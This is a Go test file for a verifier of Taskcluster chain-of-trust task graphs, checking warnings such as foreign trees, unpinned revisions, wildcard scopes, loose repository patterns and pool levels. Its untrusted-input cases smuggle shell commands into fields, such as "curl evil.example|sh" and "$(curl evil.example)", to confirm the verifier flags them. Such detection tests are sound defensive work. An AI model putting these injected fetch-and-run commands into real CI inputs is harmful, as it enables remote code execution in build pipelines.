package verify_test

import (
	"encoding/json"
	"maps"
	"strings"
	"testing"

	"cotverify/internal/memsource"
	"cotverify/internal/pyregexp"
	"cotverify/internal/testgraph"
	"cotverify/pkg/report"
)

// apply applies changes in turn.
func apply(changes ...func(*testgraph.Graph)) func(*testgraph.Graph) {
	return func(g *testgraph.Graph) {
		for _, change := range changes {
			change(g)
		}
	}
}

func unchanged(*testgraph.Graph) {}

// editTemplates replaces a text in all templates.
func editTemplates(from, to string) func(*testgraph.Graph) {
	return func(g *testgraph.Graph) {
		for url, page := range g.Pages {
			if strings.HasSuffix(url, "/.taskcluster.yml") {
				changed := strings.ReplaceAll(string(page.Body), from, to)
				if changed == string(page.Body) {
					panic("no template has " + from)
				}
				page.Body = []byte(changed)
				g.Pages[url] = page
			}
		}
	}
}

// literal makes a template of a decision's definition, whatever that is.
func literal(name string) func(*testgraph.Graph) {
	return func(g *testgraph.Graph) {
		definition := g.Task(name).Definition
		data, err := json.Marshal(map[string]any{"version": 1, "tasks": []any{definition}})
		if err != nil {
			panic(err)
		}
		repository, revision := headOf(definition)
		url := strings.Replace(repository, "https://github.com/", "https://raw.githubusercontent.com/", 1) + "/" + revision + "/.taskcluster.yml"
		g.Pages[url] = memsource.Answer{ContentType: "text/plain", Body: data}
	}
}

func headOf(definition map[string]any) (repository, revision string) {
	env := definition["payload"].(map[string]any)["env"].(map[string]any)
	return env["MOZILLAVPN_HEAD_REPOSITORY"].(string), env["MOZILLAVPN_HEAD_REV"].(string)
}

// asRelease has a push be a release of GitHub: its tag is the revision of all
// its tasks.
func asRelease(tag string) func(*testgraph.Graph) {
	return func(g *testgraph.Graph) {
		decision := g.Task("decision")
		repository, revision := headOf(decision.Definition)
		for _, task := range g.Tasks {
			if task == decision || task.Parent == decision {
				if data, _ := json.Marshal(task.Definition); strings.Contains(string(data), revision) {
					rewrite(task.Name, revision, tag)(g)
				}
			}
		}
		change("decision", "github-release", "extra", "tasks_for")(g)
		literal("decision")(g)
		page := func(path, body string) {
			api := strings.Replace(repository, "https://github.com/", "https://api.github.com/repos/", 1)
			g.Pages[api+path] = memsource.Answer{ContentType: "application/json", Body: []byte(body)}
		}
		page("/releases/tags/"+tag, `{"target_commitish": "main", "published_at": "2026-03-09T09:00:00Z", "author": {"login": "octo-dev"}}`)
		page("/tags", `[{"name": "`+tag+`", "commit": {"sha": "`+revision+`"}}]`)
	}
}

// inForge has a build of hg come from a server of another kind, whose sources
// are no pages of hg, and a policy with one pattern for it.
func inForge(source, repository string) func(*testgraph.Graph) {
	return apply(change("build-linux64", "https://forge.example"+source, "metadata", "source"), func(g *testgraph.Graph) {
		if repository == "" {
			remove("build-linux64", "payload", "env", "GECKO_HEAD_REPOSITORY")(g)
		} else {
			change("build-linux64", "https://forge.example"+repository, "payload", "env", "GECKO_HEAD_REPOSITORY")(g)
		}
	})
}

// trustForge trusts a forge by a pattern whose end is open.
func trustForge(o *options) {
	product := *o.Policy.Products["firefox"]
	rule := product.TrustedRepos[0]
	rule.Hosts = []string{"forge.example"}
	rule.Paths = []*pyregexp.Regexp{pyregexp.MustCompile(`^(?P<path>/mozilla-central)`)}
	product.TrustedRepos = append(product.TrustedRepos[:len(product.TrustedRepos):len(product.TrustedRepos)], rule)
	p := *o.Policy
	p.Products = maps.Clone(p.Products)
	p.Products["firefox"] = &product
	o.Policy = &p
}

// TestWarnings shows of each warning graphs that draw it, and others that are
// as near to them as may be and draw none at all.
func TestWarnings(t *testing.T) {
	const (
		vpn     = "https://github.com/mozilla-mobile/mozilla-vpn-client"
		vpnRepo = "MOZILLAVPN_HEAD_REPOSITORY"
		release = "project:mozillavpn:releng:signing:cert:release-signing"
		full    = "8b5d0e1e6a1f4c1c8a4b5d0e1e6a1f4c1c8a4b5d"
		other   = "AAAAAAAAAAAAAAAAAAAAAA"
	)
	repository := func(url string) func(*testgraph.Graph) {
		return change("build-linux64", url, "payload", "env", vpnRepo)
	}
	repositoryUnset := remove("build-linux64", "payload", "env", vpnRepo)
	oddBranch := apply(
		rewrite("decision", "refs/heads/main", "refs/heads/main;sh"),
		rewrite("decision", "branch:main", "branch:main;sh"),
		rewrite("decision", "branch.main", "branch.main;sh"),
	)
	pool := func(name, provisioner, workerType string) func(*testgraph.Graph) {
		return apply(change(name, provisioner, "provisionerId"), change(name, workerType, "workerType"), change(name, provisioner+"/"+workerType, "taskQueueId"))
	}
	type tests []struct {
		name   string
		graph  func() *testgraph.Graph // GitHubPush if nil
		change func(*testgraph.Graph)
		edit   func(*options)
		warns  bool
	}
	for check, tests := range map[string]tests{
		"no-graph": {
			{name: "its own creator", change: change("signing", testgraph.GitHubPush().Target.ID, "extra", "parent"), warns: true},
			{name: "created by a build", change: func(g *testgraph.Graph) {
				change("repackage-win64", g.Task("build-linux64").ID, "extra", "parent")(g)
			}, warns: true},
			{name: "created by a build of its task group alone", change: func(g *testgraph.Graph) {
				apply(remove("repackage-win64", "extra", "parent"), change("repackage-win64", g.Task("build-linux64").ID, "taskGroupId"))(g)
			}, warns: true},
			{name: "created by a decision", change: unchanged},
			{name: "created by the decision of its task group alone", change: remove("signing", "extra", "parent")},
			{name: "created by an action", graph: testgraph.GitHubAction, change: unchanged},
		},
		"foreign-tree": {
			{name: "another tree", graph: testgraph.GitHubPullRequest, change: apply(
				change("docker-image-base", "https://github.com/octo-dev/mozilla-vpn-client/blob/x/y", "metadata", "source"),
				change("docker-image-base", "https://github.com/octo-dev/mozilla-vpn-client", "payload", "env", vpnRepo),
			), warns: true},
			{name: "another task group", change: change("docker-image-base", other, "taskGroupId"), warns: true},
			{name: "an image of the git mirror, whose decision is of hg", graph: testgraph.HgPush, change: fromGitMirror("docker-image-base")},
			{name: "a build of the git mirror, whose decision is of hg", graph: testgraph.HgPush, change: fromGitMirror("build-linux64")},
			{name: "an image of an earlier push", change: unchanged},
			{name: "an action's task in the decision's group", graph: testgraph.HgAction, change: unchanged},
			{name: "a fork's task, whose decision is of no tree either", graph: testgraph.GitHubPullRequest, change: unchanged},
		},
		"unpinned-revision": {
			{name: "a branch", graph: testgraph.FirefoxPush, change: change("build-linux64", "main", "payload", "env", "GECKO_HEAD_REV"), warns: true},
			{name: "a hash that is cut", graph: testgraph.FirefoxPush, change: change("build-linux64", full[:39], "payload", "env", "GECKO_HEAD_REV"), warns: true},
			{name: "a hash in capitals", graph: testgraph.FirefoxPush, change: change("build-linux64", strings.ToUpper(full), "payload", "env", "GECKO_HEAD_REV"), warns: true},
			{name: "a tag of hg", graph: testgraph.HgCron, change: change("build-linux64", "FIREFOX_140_0_RELEASE", "payload", "env", "GECKO_HEAD_REV"), warns: true},
			{name: "another tag than the release's", change: apply(asRelease("v1.2.3"), change("build-linux64", "v1.2.4", "payload", "env", "MOZILLAVPN_HEAD_REV")), warns: true},
			{name: "the release's tag", change: asRelease("v1.2.3")},
			{name: "no revision", graph: testgraph.FirefoxPush, change: remove("build-linux64", "payload", "env", "GECKO_HEAD_REV")},
			{name: "another commit", graph: testgraph.HgPush, change: change("build-linux64", full, "payload", "env", "GECKO_HEAD_REV")},
		},
		"loose-tree": {
			{name: "a name that goes on", graph: testgraph.FirefoxPush, change: from("build-linux64", "mozilla-firefox/firefoxXgit"), warns: true},
			{name: "a name that goes on after what the dot stands for", graph: testgraph.FirefoxPush, change: from("build-linux64", "mozilla-firefox/firefox-git-evil"), warns: true},
			{name: "a name that ends in .git", change: apply(repositoryUnset, rewrite("build-linux64", vpn+"/blob", vpn+".git/blob"))},
			{name: "a page of hg", graph: testgraph.HgPush, change: change("build-linux64", "https://hg.mozilla.org/mozilla-central/log/x", "metadata", "source")},
			{name: "the repository of hg itself", graph: testgraph.HgPush, change: change("build-linux64", "https://hg.mozilla.org/mozilla-central", "metadata", "source")},
			{name: "elsewhere, a name that goes on", graph: testgraph.HgPush, change: inForge("/mozilla-central-evil/src/x", ""), edit: trustForge, warns: true},
			{name: "elsewhere, a repository below the tree", graph: testgraph.HgPush, change: inForge("/mozilla-central/evil/src/x", "/mozilla-central/evil"), edit: trustForge, warns: true},
			{name: "elsewhere, the tree", graph: testgraph.HgPush, change: inForge("/mozilla-central/src/x", ""), edit: trustForge},
			{name: "elsewhere, the tree's repository", graph: testgraph.HgPush, change: inForge("/mozilla-central/src/x", "/mozilla-central/"), edit: trustForge},
			{name: "elsewhere, the tree alone", graph: testgraph.HgPush, change: inForge("/mozilla-central", ""), edit: trustForge},
		},
		"queue-mismatch": {
			{name: "another pool", change: change("build-linux64", "mozillavpn-1/b-linux", "taskQueueId"), warns: true},
			{name: "the pair the other way", change: change("build-linux64", "b-linux/mozillavpn-3", "taskQueueId"), warns: true},
			{name: "null", change: change("build-linux64", nil, "taskQueueId"), warns: true},
			{name: "a number", change: change("build-linux64", 3, "taskQueueId"), warns: true},
			{name: "without the workerType", change: apply(remove("build-linux64", "workerType"), change("build-linux64", "mozillavpn-3/b-linux", "taskQueueId")), warns: true},
			{name: "nothing, and no workerType", change: apply(remove("build-linux64", "workerType"), change("build-linux64", "", "taskQueueId")), warns: true},
			{name: "the pair", change: pool("build-linux64", "mozillavpn-3", "b-linux-2")},
			{name: "none but the pair", change: func(g *testgraph.Graph) {
				delete(g.Task("build-linux64").Definition, "taskQueueId")
				g.Seal()
			}},
		},
		"scope-pattern": {
			{name: "all", change: change("signing", []any{"*"}, "scopes"), warns: true},
			{name: "over a restricted one", change: change("signing", []any{"project:mozillavpn:releng:*"}, "scopes"), warns: true},
			{name: "a restricted one with a star after it", change: change("signing", []any{release + "*"}, "scopes"), warns: true},
			{name: "over none", change: change("signing", []any{"project:mozillavpn:releng:signing:format:*"}, "scopes")},
			{name: "beyond a restricted one", change: change("signing", []any{release + "-2*"}, "scopes")},
			{name: "a star within", change: change("signing", []any{"project:*:releng"}, "scopes")},
			{name: "the restricted one", change: change("signing", []any{release}, "scopes")},
			{name: "all, of another task than the target", change: change("build-linux64", []any{"*"}, "scopes")},
		},
		"odd-repository": {
			{name: "a user", change: repository("https://octo@github.com/mozilla-mobile/mozilla-vpn-client"), warns: true},
			{name: "a query", change: repository(vpn + "?x"), warns: true},
			{name: "a fragment", change: repository(vpn + "#x"), warns: true},
			{name: "parameters", change: repository(vpn + ";x"), warns: true},
			{name: "a blank", change: repository(vpn + "/ "), warns: true},
			{name: "an empty segment", change: repository("https://github.com//mozilla-mobile/mozilla-vpn-client"), warns: true},
			{name: "more than owner and name", change: repository(vpn + "/blob"), warns: true},
			{name: "the owner alone", change: repository("https://github.com/mozilla-mobile"), warns: true},
			{name: "a slash", change: repository(vpn + "/")},
			{name: "its .git", change: repository(vpn + ".git")},
			{name: "ssh", change: repository("ssh://github.com/mozilla-mobile/mozilla-vpn-client")},
			{name: "the short form", change: repository("git@github.com:mozilla-mobile/mozilla-vpn-client.git")},
			{name: "three segments on hg", graph: testgraph.HgPush, change: func(g *testgraph.Graph) {
				change("build-linux64", "https://hg.mozilla.org/mozilla-central/file/default/x", "metadata", "source")(g)
				change("build-linux64", "https://hg.mozilla.org/mozilla-central/file/default", "payload", "env", "GECKO_HEAD_REPOSITORY")(g)
			}},
			{name: "none", change: repositoryUnset},
		},
		"untrusted-input": {
			{name: "an owner", change: rewrite("decision", "octo@example.com", "x'; curl evil.example|sh; '"), warns: true},
			{name: "words of cron", graph: testgraph.HgCron, change: rewrite("decision", "--target-tasks-method=nightly_desktop", "$(curl evil.example)"), warns: true},
			{name: "a branch", change: apply(
				oddBranch,
				editTemplates("taskgraph decision", "taskgraph decision --ref=${tree.ref}"),
				rewrite("decision", "taskgraph decision", "taskgraph decision --ref=refs/heads/main;sh"),
				rewrite("image-decision", "taskgraph decision", "taskgraph decision --ref=refs/heads/main"),
			), warns: true},
			{name: "an action's input", graph: testgraph.GitHubAction, change: apply(
				rewrite("action", `promote`, "promote|sh"),
				editTemplates("taskgraph action-callback", "taskgraph action-callback ${input.release_promotion_flavor}"),
				rewrite("action", "taskgraph action-callback", "taskgraph action-callback promote|sh"),
			), warns: true},
			{name: "another owner", change: rewrite("decision", "octo@example.com", "o.c-t+o@evil.example")},
			{name: "other words of cron", graph: testgraph.HgCron, change: rewrite("decision", "--target-tasks-method=nightly_desktop", "--target-tasks-method=other")},
			{name: "a branch that is not in the command", change: oddBranch},
			{name: "an action's input in the environment", graph: testgraph.GitHubAction, change: rewrite("action", `promote`, "promote|sh")},
		},
		"pool-level": {
			{name: "an image of a lower level", change: pool("docker-image-base", "mozillavpn-1", "images"), warns: true},
			{name: "a decision of a lower level", change: apply(pool("image-decision", "mozillavpn-1", "decision"), literal("image-decision")), warns: true},
			{name: "an action that rests on one of a lower level", graph: testgraph.GitHubAction, change: pool("docker-image-base", "mozillavpn-1", "images"), warns: true},
			{name: "nothing is restricted", graph: testgraph.GitHubPullRequest, change: pool("docker-image-base", "mozillavpn-1", "images")},
			{name: "an image of the same level", change: pool("docker-image-base", "mozillavpn-3", "images-gcp")},
			{name: "a build of a lower level", change: pool("build-linux64", "mozillavpn-1", "b-linux")},
			{name: "an image of a higher level", change: apply(pool("decision", "mozillavpn-1", "decision"), literal("decision"))},
		},
		"lax-type": {
			{name: "a build", change: unchanged, edit: func(o *options) { o.TaskType = "build" }, warns: true},
			{name: "a repackage in place of a build on scriptworker", change: change("signing", "repackage", "tags", "kind"), edit: func(o *options) { o.TaskType = "repackage" }, warns: true},
			{name: "another type that must run on scriptworker", change: unchanged, edit: func(o *options) { o.TaskType = "beetmover" }},
			{name: "a build as a repackage", change: unchanged, edit: func(o *options) {
				o.TaskID, o.TaskType = testgraph.GitHubPush().Task("build-linux64").ID, "repackage"
			}},
			{name: "what the definition says", change: unchanged, edit: func(o *options) { o.TaskType = "" }},
		},
	} {
		for _, tt := range tests {
			t.Run(check+" "+tt.name, func(t *testing.T) {
				graph := testgraph.GitHubPush()
				if tt.graph != nil {
					graph = tt.graph()
				}
				tt.change(graph)
				o := optionsOf(t, graph, graph.Source())
				if tt.edit != nil {
					tt.edit(&o)
				}
				r, err := o.verify(t.Context())
				if err != nil {
					t.Fatal(err)
				}
				told := messages(r)
				if tt.warns && !strings.Contains(told, "warn "+check+" ") || !tt.warns && (told != "" || r.Verdict != report.Verified) {
					t.Errorf("warns expected: %v; got %s\n%s", tt.warns, r.Verdict, told)
				}
				o.Strict = true
				if r, err = o.verify(t.Context()); err != nil || (r.Verdict == report.Refused) != tt.warns {
					t.Errorf("strict: %s, %v", r.Verdict, err)
				}
			})
		}
	}
}
